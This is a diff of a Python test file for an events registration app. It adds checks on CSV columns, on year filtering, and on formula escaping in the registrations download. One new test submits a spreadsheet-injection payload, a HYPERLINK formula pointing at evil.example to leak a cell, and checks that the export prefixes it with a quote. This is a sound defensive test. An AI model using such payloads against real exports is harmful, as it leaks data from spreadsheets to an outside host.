@@ -158,12 +158,14 @@ def test_events_list_summary_filters_and_downloads(client, coop):
     assert "Digital skills for women" in page and "Cybersecurity forum" not in page
     rows = csv_rows(client.get(EVENTS, {"region": "AFR", "format": "csv"}))
     assert len(rows) == 1 and rows[0]["participants"] == "20" and rows[0]["women"] == "14"
-    assert rows[0]["format"] == "hybrid" and rows[0]["registration_open"] == "true"
+    assert rows[0]["mode"] == "hybrid" and rows[0]["registration_open"] == "true"
     data = json.loads(client.get(EVENTS, {"year": "2024", "format": "json"}).content)
     assert data["count"] == 1 and data["results"][0]["id"] == other.pk and data["results"][0]["participants"] is None
     assert client.get(EVENTS, {"format": "xlsx"}).content[:2] == b"PK"
-    # The ITU region filter offers the regions; a nonsense year is ignored.
-    assert client.get(EVENTS, {"year": "abc"}).status_code == 200
+    # A nonsense year is refused on the page (said, nothing listed) instead of failing it; a blank one is no filter.
+    resp = client.get(EVENTS, {"year": "abc"})
+    assert resp.status_code == 200 and "year: " in text(resp) and "Cybersecurity forum" not in text(resp)
+    assert "Cybersecurity forum" in text(client.get(EVENTS, {"year": "", "region": ""}))
 
 
 def test_event_page_shows_sessions_counts_and_public_registration(client, coop):
@@ -260,6 +262,24 @@ def test_manage_page_writes_through_the_services(client, coop):
     resp = client.post(f"{EVENTS}{t.pk}/register/", {"name": "C", "email": "c@example.org", "sex": "M",
                                                       "stakeholder": "academia"})
     assert "This event is full." in text(resp) and Registration.objects.count() == 2
+
+
+def test_names_typed_at_registration_stay_text_in_the_registrations_download(client, coop):
+    """A name or organisation typed as a formula by the public reaches the managers' CSV guarded, as typed."""
+    t = coop["training"]
+    name, org = '=HYPERLINK("http://evil.example/?leak="&C2,"Open")', "+SUM(A1:A9)"
+    resp = client.post(f"{EVENTS}{t.pk}/register/", {"name": name, "email": "x@example.org", "sex": "F",
+                                                      "stakeholder": "academia", "economy": "KEN",
+                                                      "organisation_name": org})
+    assert resp.status_code == 302 and Registration.objects.get().name == name
+    client.force_login(coop["admin"])
+    resp = client.get(f"{EVENTS}{t.pk}/manage/", {"format": "csv"})
+    assert resp.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))) for c in row]
+    assert "'" + name in cells and "'" + org in cells and name not in cells and org not in cells
+    rows = csv_rows(resp)
+    assert list(rows[0]) == ["id", "name", "email", "sex", "stakeholder", "economy", "organisation", "status",
+                             "certificate", "registered_at"]
 
 
 # ---------------------------------------------------------------------------------------------- requests
